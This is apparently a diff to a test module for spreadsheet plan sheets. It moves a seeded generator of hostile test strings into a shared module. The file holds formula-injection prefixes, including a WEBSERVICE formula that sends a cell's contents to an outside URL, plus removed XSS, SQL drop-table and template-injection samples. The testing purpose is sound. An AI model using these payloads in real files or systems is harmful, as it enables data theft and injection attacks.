@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import itertools
-import random
 import zipfile
 from io import BytesIO
 
@@ -12,6 +11,7 @@ from app.plan_sheets.rules.cells import Part
 from app.plan_sheets.rules.layout import ACTIONS, COLUMNS
 from app.sheets.opening import read_back, text_of
 from tests.books import saved
+from tests.hostile.payloads import naughty
 from tests.unit.plan_sheets.planning import brought, loaded, planned, written
 
 _STARTS = ("=", "+", "-", "@", "\t=", " =", "＝", "'=", '"=', "=\n", "=-", "+=")
@@ -23,25 +23,7 @@ _CALLS = (
     'WEBSERVICE("http://example.org/"&A1)',
 )
 FORMULAS = [f"{start}{call}" for start, call in itertools.product(_STARTS, _CALLS)]
-_PIECES = (
-    "<script>alert(1)</script>", "<b>", "&amp;", "&#x41;", "]]>", "<!--", "${x}", "{{ 7*7 }}", "%s",
-    "\\u0041", "_x000D_", "_x005F_", "_x0041_", "_x000d_", "'; drop table action; --", "“quoted”",
-    "\u202eright to left\u202c", "שלום", "مرحبا", "你好", "日本語", "\U0001f469\u200d\U0001f467",
-    "é", "e\u0301", "\u200b", "\ufeff", "\u2028", "\U0001f3f4\U000e0067\U000e007f",
-    "\u00a0", "\t", "\n", "\n\n", "\x7f", "\x85", "NaN", "TRUE", "None", "1/2", "-1", "1E5", "0012",
-    "٣", "1.50", "31/7/2027", "#REF!", "#N/A", "\U0001f9ea", "\U0010fffd", "a" * 300,
-    "Z\u0334a\u0335l\u0336", "\\", "|", "~",
-)  # fmt: skip
 _UNWRITABLE = ("\x01", "\x07", "\x0b", "\x1b", "\x1f", "\ufffe", "\uffff")
-
-
-def naughty(number: int) -> list[str]:
-    """So many different texts of such pieces, the same ones each time."""
-    chance = random.Random(11)  # nothing is kept secret by it
-    made: dict[str, None] = dict.fromkeys(each.strip() for each in _PIECES if each.strip())
-    while len(made) < number:
-        made["".join(chance.choices(_PIECES, k=chance.randint(2, 6))).strip()[:1000]] = None
-    return [each for each in made if each][:number]
 
 
 def test_five_hundred_naughty_texts_and_sixty_formulas_come_back_the_same() -> None:
